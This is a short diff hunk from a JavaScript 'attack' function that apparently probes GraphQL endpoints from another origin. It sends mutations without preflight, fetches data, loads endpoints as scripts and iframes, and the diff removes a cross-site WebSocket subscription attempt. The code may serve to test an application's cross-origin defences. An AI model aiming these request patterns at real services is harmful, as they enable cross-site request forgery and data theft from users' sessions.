@@ -50,13 +50,6 @@ async function attack() {
     await attempt("change without preflight " + url, () => send(url, "text/plain", mutation("PLAIN"), {mode: "no-cors"}));
     await attempt("get " + url, () => fetch(get).then((answer) => answer.text()));
     await attempt("get without preflight " + url, () => fetch(get, {mode: "no-cors"}).then((answer) => answer.text()));
-    await attempt("socket " + url, () => new Promise((resolve) => {
-      const socket = new WebSocket(new URL(url, location).href.replace(/^http/, "ws"), "graphql-transport-ws");
-      socket.onopen = () => socket.send('{"type":"connection_init"}');
-      socket.onerror = () => resolve("failed socket");
-      socket.onmessage = ({data}) => data.includes("ack")
-        ? socket.send(JSON.stringify({id: "1", type: "subscribe", payload: {query}})) : resolve(data);
-    }));
     await attempt("script " + url, () => element("script", {src: get}));
     await attempt("file " + url, () => element("script", {src: url + "/assets/start.js"}));
     if (!target) await attempt("frame " + url, () => element("iframe", {src: get}));
